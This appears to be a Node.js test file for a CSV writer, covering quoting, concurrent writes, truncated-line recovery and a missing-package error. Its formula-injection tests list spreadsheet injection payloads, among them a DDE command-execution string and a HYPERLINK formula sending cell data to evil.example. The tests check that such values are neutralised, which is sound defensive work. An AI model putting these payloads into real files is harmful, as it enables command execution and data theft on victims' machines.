import assert from 'node:assert/strict'
import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { appendFileSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { text } from 'node:stream/consumers'
import { test } from 'node:test'
import { parse } from 'csv-parse/sync'
import { csv, type TrackedValue } from 'deedbox/chests'
import { LineFile } from '../../packages/deedbox/src/chests/line-file.ts'
import { tempFolder } from '../end-to-end/ledger-process.ts'
import { aRecord, entriesOf } from './entries.ts'
import { failureOf } from './failing-write.ts'
import { csvKind } from './line-kinds.ts'

const columns = 'entry_id,request_id,name,value,type,created_at,route,method,status,error,service,env,tags'

test('FC-23 a row for each variable, under a row of names', async t => {
  const file = join(tempFolder(t), 'vars.csv')
  const chest = csv(file, { tags: { app: 'shop' } })
  const timestamp = Date.UTC(2026, 10, 30, 5, 7, 56) * 1_000 + 42
  const record = aRecord({ requestId: 'r-1', timestamp, error: 'it, "broke"\ntwice', status: 500 })
  await chest.write(
    entriesOf(record, [
      ['user', 'Ann, "the" one'],
      ['total', -2.5],
    ]),
  )
  const job = aRecord({ requestId: 'j-1', timestamp, route: null, method: null, status: null })
  await chest.write(entriesOf(job, [['note', 'two\nlines']]))
  const end = (rest: string): string => `2026-11-30T05:07:56.000042Z,${rest},shop,test,"{""app"":""shop""}"`
  assert.equal(
    readFileSync(file, 'utf8'),
    [
      columns,
      `${record.id}.0,r-1,user,"Ann, ""the"" one",string,${end('/items/:id,GET,500,"it, ""broke""␊twice"')}`,
      `${record.id}.1,r-1,total,-2.5,number,${end('/items/:id,GET,500,"it, ""broke""␊twice"')}`,
      `${job.id}.0,j-1,note,"""two\\nlines""",string_json,${end(',,,')}`,
      '',
    ].join('\n'),
  )
})

/** What spreadsheets are known to run, or to take for something else; and what only looks guarded. */
const formulas = [
  ...['=1+1', "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"click")', '@SUM(1+1)*cmd'],
  ...['+1+1', '-1+1', '-2', '\t=1', '\r=1', '\n=1', '＝1+1', '＋1', '－1', '＠SUM(1)', '";=1', '",=1,"'],
  ...["'=1", "'", "''=1", "'a", ' =1', '', '=', '"=1"', '%0A=1', 'a\r\n=1', '\u2028=1', '\0=1'],
]

test('FC-23 no cell is a formula, and all is read back as it was', async t => {
  const file = join(tempFolder(t), 'vars.csv')
  const values: TrackedValue[] = [
    ...formulas,
    ...formulas.map(formula => [formula]),
    -1,
    0,
    1e21,
    5e-324,
    true,
    null,
    {},
  ]
  const records = formulas.map(formula =>
    aRecord({
      requestId: formula,
      route: formula,
      method: formula,
      error: formula,
      service: formula,
      env: formula,
    }),
  )
  const written = [
    ...entriesOf(
      aRecord(),
      values.map((value, i) => [`n${i}`, value]),
    ),
    ...records.flatMap((record, i) => entriesOf(record, [[formulas[i]!, i]])),
  ]
  await csv(file, { tags: { '=1': '=2' } }).write(written)
  const content = readFileSync(file, 'utf8')
  const cells = parse(content).flatMap(row => row as unknown as string[])
  for (const cell of cells)
    assert(
      !/^[=+@\t\r\n＝＋－＠]/.test(cell) && (!cell.startsWith('-') || Number.isFinite(Number(cell))),
      cell,
    )
  const read = csvKind.read(content)
  assert.deepEqual(
    read.slice(0, values.length).map(({ value }) => value),
    values,
  )
  assert.equal(content.trimEnd().split('\n').length, written.length + 1, 'a line each')
})

/** What programs make of a file whose cells they divide elsewhere. Some divide before they look at quotation marks. */
function cellsBy(separator: string, content: string): string[] {
  const strict = parse(content, { delimiter: separator, relax_quotes: true, relax_column_count: true })
  return [...strict.flat(), ...content.split(new RegExp(`[\\n${separator}]`))].map(String)
}

test('FC-23 no cell is a formula where semicolons or tabs divide cells, and all is read back as it was', async t => {
  const folder = tempFolder(t)
  const seed = Number(process.env.DEEDBOX_FUZZ_SEED ?? Date.now() % 2 ** 31)
  t.diagnostic(`DEEDBOX_FUZZ_SEED=${seed}`)
  let state = seed
  const random = (below: number): number => {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0
    return Math.floor((state / 2 ** 32) * below)
  }
  const parts = [
    ';',
    ';',
    '\t',
    '=1',
    '+',
    '-1',
    '@SUM(1)',
    '＝',
    '＠',
    '"',
    '""',
    "'",
    ' ',
    ',',
    'a',
    '1',
    '\\',
  ]
  const odd = ['\n', '\r', '\0', '\u2028', '\ud800', '𝒳', '|', '\u00a0']
  const aText = (): string =>
    Array.from({ length: random(7) }, () => {
      const from = random(8) === 0 ? odd : parts
      return from[random(from.length)]
    }).join('')
  const texts = ['x;=1+1', 'x\t=1', 'x;"=1"', 'x; +1', 'x;;-1', 'x;＝1', 'x;\n=1', ';=1', '";=1', '\t@A']
  for (let n = 0; n < 400; n++) texts.push(aText())
  const all: TrackedValue[] = texts.flatMap(text => [text, [text, aText()], { [text]: -1 }])
  const file = join(folder, 'vars.csv')
  const chest = csv(file, { tags: { [aText() || 'a']: 'x;=1' } })
  const written = texts.flatMap((text, i) => {
    const facts = { requestId: text, route: text, method: text, error: text, service: text, env: text }
    const values = all.slice(3 * i, 3 * i + 3)
    return entriesOf(
      aRecord(facts),
      values.map(value => [text || 'n', value]),
    )
  })
  await chest.write(written)
  const content = readFileSync(file, 'utf8')
  for (const separator of [';', '\t'])
    for (const cell of cellsBy(separator, content))
      assert(!/^[\s"]*[=+\-@＝＋－＠]/.test(cell), `seed ${seed}, ${separator}: ${cell}`)
  for (const [i, { value }] of csvKind.read(content).entries())
    assert.deepEqual(value, written[i]?.value, `seed ${seed}`)
  // What no program divides stays as people read it.
  const plain = join(folder, 'plain.csv')
  await csv(plain).write(entriesOf(aRecord(), [['n', 'one; two']]))
  assert.match(readFileSync(plain, 'utf8'), /,one; two,string,/)
})

test('FC-29 the names of the columns stand once at the top, whoever comes first', async t => {
  const folder = tempFolder(t)
  const file = join(folder, 'vars.csv')
  const chests = Array.from({ length: 20 }, () => csv(file))
  await Promise.all(chests.map((chest, n) => chest.write(entriesOf(aRecord(), [['n', n]]))))
  const lines = readFileSync(file, 'utf8').trimEnd().split('\n')
  assert.equal(lines.length, 21)
  assert.equal(lines[0], columns)
  assert.equal(lines.filter(line => line === columns).length, 1)
  const empty = join(folder, 'empty.csv')
  writeFileSync(empty, '')
  await csv(empty).write(entriesOf(aRecord(), [['n', 1]]))
  assert.equal(csvKind.read(readFileSync(empty, 'utf8')).length, 1)
})

test('FC-29 of several who find a line that was cut off in a quotation, one closes it', async t => {
  const file = join(tempFolder(t), 'vars.csv')
  await csv(file).write(entriesOf(aRecord(), [['n', 'a, "b"']]))
  const whole = readFileSync(file)
  writeFileSync(file, whole.subarray(0, whole.indexOf('b""')))
  const chests = Array.from({ length: 12 }, () => csv(file))
  await Promise.all(chests.map((chest, n) => chest.write(entriesOf(aRecord(), [['n', `${n}, "x"`]]))))
  assert.deepEqual(valuesOfRows(file).sort(), chests.map((_, n) => `${n}, "x"`).sort())
})

test('FC-29 a line whose end comes late, when it was taken for cut off, spoils no row behind it', async t => {
  const file = join(tempFolder(t), 'vars.csv')
  const row = 'a,"b, ""c"""\n'
  writeFileSync(file, row.slice(0, 6))
  const late = new LineFile(
    file,
    {
      header: '',
      closing: (isQuoted, mark) => {
        assert(isQuoted)
        // The other process ends its line in the very moment in which its end is made up.
        appendFileSync(file, row.slice(6))
        return `${mark}"\n`
      },
    },
    false,
  )
  await late.append(row)
  await late.append(row)
  const content = readFileSync(file, 'utf8')
  const rows = parse(content, { relax_column_count: true }).filter(cells => cells.length === 2)
  assert.deepEqual(rows, Array(3).fill(['a', 'b, "c"']))
  assert.equal(content.split('\n').length, 5)
})

/** The values of whole rows, as a reader has them that passes over others. */
function valuesOfRows(file: string): (string | undefined)[] {
  const all = parse(readFileSync(file, 'utf8'), { relax_column_count: true })
  return all
    .slice(1)
    .filter(cells => cells.length === columns.split(',').length)
    .map(cells => cells[3])
}

test('a file with other columns is left as it is', async t => {
  const file = join(tempFolder(t), 'other.csv')
  writeFileSync(file, 'id,name\n1,Ann\n')
  const { code, message } = await failureOf(csv(file))
  assert.equal(code, 'unavailable')
  assert.match(message, /its first line names other columns/)
  assert.equal(readFileSync(file, 'utf8'), 'id,name\n1,Ann\n')
})

test('FC-24 without its package it says what to install, and entries wait', async t => {
  const file = join(tempFolder(t), 'vars.csv')
  const source = `
    import { registerHooks } from 'node:module'
    registerHooks({
      resolve(specifier, context, next) {
        if (!specifier.startsWith('csv-stringify')) return next(specifier, context)
        throw Object.assign(new Error('Cannot find package'), { code: 'ERR_MODULE_NOT_FOUND' })
      },
    })
    const { csv } = await import('deedbox/chests')
    const { aRecord, entriesOf } = await import('./entries.ts')
    const chest = csv(process.argv[1])
    const { code, message } = await chest.write(entriesOf(aRecord(), [['n', 1]])).catch(error => error)
    console.log(JSON.stringify({ code, message, check: await chest.check() }))`
  const { NODE_TEST_CONTEXT, ...env } = process.env
  const flags = ['--conditions=@deedbox/source', '--input-type=module-typescript', '-e', source]
  const child = spawn(process.execPath, [...flags, file], {
    cwd: import.meta.dirname,
    env,
    stdio: ['ignore', 'pipe', 'inherit'],
  })
  t.after(() => child.kill('SIGKILL'))
  const [said] = await Promise.all([text(child.stdout), once(child, 'exit')])
  const { code, message, check } = JSON.parse(said)
  assert.equal(code, 'driver_missing')
  assert(
    message.startsWith(
      `CSV(name=${file}): the package csv-stringify could not be loaded; run: npm i csv-stringify`,
    ),
  )
  assert.deepEqual(
    check.map(({ level, message: told }: { level: string; message: string }) => [level, told]),
    [['error', message]],
  )
})
